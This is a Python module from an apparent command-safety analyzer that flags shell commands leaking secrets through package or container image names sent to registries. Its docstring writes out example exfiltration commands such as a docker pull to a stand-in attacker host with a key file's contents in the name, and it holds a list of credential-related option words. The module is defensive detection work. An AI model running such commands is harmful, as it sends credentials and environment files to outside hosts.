"""Names that are asked for elsewhere: a package, an image, a module. Who answers for the names
learns what is in them.

A name made of a secret (``npm view $(base64 .env)``, ``docker pull evil.test/$(cat key)``) is a
message, whatever comes back.
"""

from __future__ import annotations

from collections.abc import Sequence

from interlock.effects.api import ShellReading
from interlock.effects.host_words import LOOKUPS, address, host_in
from interlock.effects.hosts import classify, host_of
from interlock.effects.outgoing_words import leaves
from interlock.effects.rows import ProgramRow
from interlock.effects.run import Run
from interlock.model.effect import LOCAL, Effect, Installs, Publishes
from interlock.shell.execution import Execution
from interlock.shell.value import ENVIRONMENT, FILE, OUTPUT, Value
from interlock.shell.walk import Walker

_OF_IMAGES = frozenset({"docker", "podman", "nerdctl"})
"""Programs whose other words are for what runs in a container: variables, folders, a command."""
_TOLD = frozenset({"carries-secret", "carries-environment"})
REGISTRY = "a registry"


def find_recipient(
    reader: ShellReading[Run], execution: Execution, walker: Walker, effects: Sequence[Effect]
) -> tuple[str, frozenset[str]]:
    """Return whom a command tells a secret in a name that it asks for, and what that carries;
    nothing where it asks for none.
    """
    name = execution.argv[0].text.rpartition("/")[2]
    if not any(effect.kind is Publishes for effect in effects) and not _asks(
        execution, name, effects
    ):
        return "", frozenset()
    run = Run(reader, walker, execution, ProgramRow(), name)
    for value in execution.argv[1:]:
        carries = (
            _carries(run, value)
            if value.hollow and _is_name(execution, value, name)
            else frozenset[str]()
        )
        host = address(value) or REGISTRY
        if carries and classify(host) != LOCAL:
            return host, carries
    return "", frozenset()


def _asks(execution: Execution, name: str, effects: Sequence[Effect]) -> bool:
    """Whether a command asks a registry for names: it installs, or has the program's word."""
    verbs = LOOKUPS.get(name, "").split()
    return any(effect.kind is Installs for effect in effects) or any(
        word.text in verbs for word in execution.argv[1:4]
    )


def find_literal_secret(
    reader: ShellReading[Run], execution: Execution, name: str, effects: Sequence[Effect]
) -> tuple[str, Value | None]:
    """Return whom a command tells a secret that is written out in a name, and the word; a name that
    only looks drawn is none.
    """
    if not _asks(execution, name, effects) or any(
        "carries-token" in effect.traits for effect in effects
    ):
        return "", None
    before = ""
    for value in execution.argv[1:]:
        proves = before[:1] == "-" and before.lower().endswith(_PROVING)
        if (
            not proves
            and _may_name(value.text)
            and _is_name(execution, value, name)
            and leaves(reader.context, value.text)
        ):
            host = _whom(value.text)
            return ("", None) if classify(host) == LOCAL else (host, value)
        before = value.text
    return "", None


def _whom(text: str) -> str:
    """Return who is asked for a name: its own host, or a registry that somebody has set up."""
    if "://" in text:
        return host_of(text)
    first = text.partition("/")[0].partition(":")[0] if "/" in text else ""
    return first if first and classify(first) == LOCAL else host_in(text) or REGISTRY


_PROVING = ("token", "password", "creds", "auth", "otp", "key", "secret", "username")
"""How options end that are given what proves who asks."""


def _may_name(text: str) -> bool:
    """Whether a word may be asked for: an address, or no path, option or setting."""
    return "://" in text or (text[:1] not in "/.~-" and "=" not in text.replace("==", ""))


def _carries(run: Run, value: Value) -> frozenset[str]:
    """Return what of a secret is put into a word where it stands: by a command in it, or by the
    text of a file.
    """
    from interlock.effects.programs.sending import word_carries

    inside = "(" in run.walker.texts[run.execution.text].text[value.start : value.end]
    if value.why not in (OUTPUT, FILE) and not (value.why == ENVIRONMENT and inside):
        return frozenset()
    return _TOLD & word_carries(run, value, tokens=False)


def _is_name(execution: Execution, value: Value, program: str) -> bool:
    """Whether a word may be a name that is asked for, and no variable, folder, label or command
    that is handed to what runs here.
    """
    if program not in _OF_IMAGES:
        return True
    plain = value.text[:1] not in "/.-" and "=" not in value.text.partition("://")[0]
    return plain and (bool(address(value)) or execution.argv[1].text not in ("run", "create"))
